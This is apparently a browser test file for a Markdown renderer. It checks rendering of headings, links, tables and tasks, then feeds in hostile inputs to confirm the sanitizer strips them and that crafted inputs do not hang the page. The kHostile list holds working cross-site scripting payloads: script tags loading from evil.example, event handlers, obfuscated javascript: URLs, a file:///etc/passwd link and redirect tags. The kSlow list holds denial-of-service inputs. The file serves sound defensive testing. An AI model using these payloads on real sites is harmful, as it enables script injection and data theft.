// Checks documents in Markdown: what is shown, where links lead, and that no text can run or load
// anything, or make the page hang.
import { check, checkSame } from "./harness.mjs";
import { kDocument } from "./markdown_document.mjs";
import { openMarkdown } from "./markdown_fixture.mjs";

const kMost = 8000;  // milliseconds for the worst document; a second on a fast machine, minutes without bounds

const kSymbols = [
  { id: "@a", name: "parse", kind: "function", path: "src/parse.py", line: 7 },
  { id: "@b", name: "Tree.walk", kind: "method", path: "src/tree.py", line: 3 },
  { id: "@c", name: "A.same", kind: "method", path: "a.py", line: 1 }, { id: "@d", name: "B.same", kind: "method", path: "b.py", line: 1 },
];

export async function checkMarkdown({ browser, base }) {
  const { page, show } = await openMarkdown(browser, base);
  await show(kDocument, "docs/guide.md", kSymbols);
  const texts = (selector) => page.locator(`.markdown ${selector}`).allTextContents();
  const links = () => page.locator(".markdown a").evaluateAll((all) => all.map((one) => [one.textContent, one.getAttribute("href")]));
  checkSame(await texts(".front th"), ["title", "weight"], "front matter is a table");
  checkSame(
    await page.locator(".markdown :is(h1, h2)").evaluateAll((all) => all.map((one) => one.id)),
    ["doc-the-guide", "doc-how-to-start", "doc-how-to-start-1"], "headings have ids");
  checkSame(await links(), [
    ["web", "https://example.org/a?b=c"], ["file", "#/file/README.md"], ["root", "#/file/src/a%20b.py?L=3-9"],
    ["heading", "#/file/docs/guide.md?section=how-to-start-1"],
    ["parse", "#/file/src/parse.py?L=7"], ["parse()", "#/file/src/parse.py?L=7"], ["walk", "#/file/src/tree.py?L=3"],
    ["a picture", "#/file/docs/a.png"], ["badge", "https://ci.example/"],
  ], "links lead to the web, to files, to headings and to definitions");
  checkSame(await texts("code"), ["parse", "parse()", "parse(x)", "walk", "same", "let a = 1 < 2;"], "only whole names of symbols are links");
  checkSame(await texts(".fence-language"), ["rust"], "a block of code has its language");
  checkSame(
    [await texts(".table-frame td"), await page.locator(".markdown td.is-right").count()], [["1", "2"], 1],
    "tables are tables, with their alignment");
  checkSame(
    await page.locator(".task-box").evaluateAll((all) => all.map((one) => one.getAttribute("aria-label"))), ["done", "to do"],
    "tasks are done or to do");
  checkSame(
    [await texts(".alert-title"), await texts("summary"), await texts("kbd")], [["warning"], ["More"], ["Ctrl"]],
    "notes, details and keys are there");
  const outside = page.locator('.markdown a[href^="https"]');
  checkSame(
    await outside.evaluateAll((all) => all.map((one) => `${one.rel} ${one.target}`)),
    ["noopener noreferrer _blank", "noopener noreferrer _blank"], "links to the web say nothing about this page");
  await page.getByRole("link", { name: "heading" }).click();
  checkSame(await page.evaluate(() => document.activeElement?.id), "doc-how-to-start-1", "a link to a heading leads there");
  await show("<constructor>\n\n*a*\n\n</constructor>");
  checkSame(await texts("em"), ["a"], "an element named like a part of every object is like any other unknown one");
  await page.context().close();
}

const kAllowed = new Set([
  ..."h1 h2 h3 h4 h5 h6 p ul ol li table thead tbody tfoot tr th td caption code pre kbd details summary blockquote".split(" "),
  ..."sub sup del s ins hr br div a span strong b em i u dl dt dd samp var small q cite mark abbr figure figcaption".split(" "),
]);
const kAttributes = new Set("id class href rel target title role aria-label tabindex start open colspan rowspan scope".split(" "));

const kHostile = [
  "<script>window.ran = 1</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror='window.ran = 1'>",
  "<img src='https://evil.example/x.png' alt='picture'>",
  "<a href='javascript:window.ran=1'>a</a>",
  "[a](javascript:window.ran=1)",
  "[a](JaVaScRiPt:window.ran=1)",
  "<a href='&#106;avascript&colon;window.ran=1'>a</a>",
  "<a href='java&Tab;script:window.ran=1'>a</a>",
  "<a href='java\nscript:window.ran=1'>a</a>",
  "<a href='&#1;javascript:window.ran=1'>a</a>",
  "[a](&#x6A;avascript:window.ran=1)",
  "<a href='data:text/html,<script>window.ran=1</script>'>a</a>",
  "<a href='vbscript:x'>a</a>",
  "<a href='blob:x'>a</a>",
  "<a href='file:///etc/passwd'>a</a>",
  "<svg onload='window.ran=1'><a xlink:href='javascript:window.ran=1'><text>a</text></a></svg>",
  "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
  "<style>* { display: none }</style><p style='position: fixed; background: url(https://evil.example/)'>a</p>",
  "<iframe src='https://evil.example/' srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<form action='https://evil.example/'><input name=a><button formaction='javascript:window.ran=1'>a</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
  "<a title='\"><img src=x onerror=window.ran=1>' href=\"https://a.example/'onclick='window.ran=1\">a</a>",
  "![x\" onerror=\"window.ran=1](x)",
  "[a](https://a.example/\"onmouseover=\"window.ran=1)",
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<template><img src=x onerror=window.ran=1></template>",
  "<textarea><img src=x onerror=window.ran=1></textarea>",
  "<div id=query><form id=app name=body>x</form></div>",
  "<video src='https://evil.example/' poster='https://evil.example/' onerror=window.ran=1></video>",
  "<x-script>window.ran=1</x-script><x-x-script>a</x-x-script>",
  "```\"><img/src=x/onerror=window.ran=1>\na\n```",
  "<details open ontoggle=window.ran=1>a</details>",
  "<body onload=window.ran=1><html onclick=x>",
  "<table background='https://evil.example/'><td>a</table>",
];

export async function checkHostileMarkdown({ browser, base }) {
  const { page, show } = await openMarkdown(browser, base);
  const bad = [];
  for (const text of [...kHostile, kHostile.join("\n\n")]) {
    await show(text);
    const found = await page.locator(".markdown *").evaluateAll((all) => all.map((one) => (
      [one.localName, [...one.attributes].map(({ name, value }) => [name, value])]
    )));
    for (const [element, attributes] of found) {
      if (!kAllowed.has(element)) bad.push(`<${element}> of ${text}`);
      for (const [name, value] of attributes) {
        const isLost = name === "href" && !/^(https?:\/\/|mailto:|#\/file\/)/.test(value);
        const isTaken = name === "id" && !value.startsWith("doc-");
        if (!kAttributes.has(name) || isLost || isTaken) bad.push(`${name}="${value}" of ${text}`);
      }
    }
  }
  checkSame(bad.slice(0, 5), [], "of hostile documents, only allowed elements and attributes are made");
  checkSame(await page.evaluate(() => [window.ran ?? 0, document.title, location.hash]), [0, "Markdown", ""], "and nothing of them runs");
  await page.context().close();
}

const rows = (count, row) => Array.from({ length: count }, (_, i) => row(i));

const kSlow = {
  "a hundred thousand nested elements": "<div>".repeat(100_000),
  "a line of nested quotes": ">".repeat(100_000),
  "a line of nested lists": "- ".repeat(50_000) + "a",
  "a staircase of lists": rows(1200, (i) => `${" ".repeat(i * 2)}- a`).join("\n"),
  "a line of brackets": "[a](".repeat(50_000),
  "a line of stars": "*a **a ".repeat(50_000),
  "code in code": rows(1400, (i) => "`".repeat(i)).join("a"),
  "a long mail address": `${"a.".repeat(50_000)}@`,
  "a row of open elements": rows(9000, (i) => `<b a${i}>`).join("") + "<p>x".repeat(9000),
  "an element with many attributes": `<p ${rows(150_000, (i) => i.toString(36)).join(" ")}>`,
  "a wide table": `${"|a".repeat(50_000)}\n${"|-".repeat(50_000)}`,
  "a wide table in HTML": `<table>${"<tr>" + "<td colspan=999>a".repeat(500)}`,
  "a long document": "Some *words* with `code`.\n\n".repeat(50_000),
  "a nest of tables": "<table><td>".repeat(20_000),
  "a nest of links": "<a href=x>".repeat(50_000),
  "a row of open quotes": "<a '\"".repeat(50_000),
  "a row of comments": "<p><!--".repeat(50_000),
  "a row of names": "<p>" + rows(90_000, (i) => `&a${i};`).join(""),
  "a row of scripts": "<script>".repeat(50_000),
  "a row of ends": "<td></p>".repeat(50_000),
};

export async function checkSlowMarkdown({ browser, base }) {
  const { page, show } = await openMarkdown(browser, base, 150);
  for (const [name, text] of Object.entries(kSlow)) {
    const time = await show(text);
    check(time < kMost, `${name} does not make the page hang`, `${Math.round(time)} ms`);
    if (process.env.SHOW_TIMES) console.log(`     ${Math.round(time)} ms`);
  }
  await show("a".repeat(1_500_000));
  check((await page.locator(".plain-rest").textContent()).length === 500_000, "the rest of a huge document is shown as it is");
  await page.context().close();
}
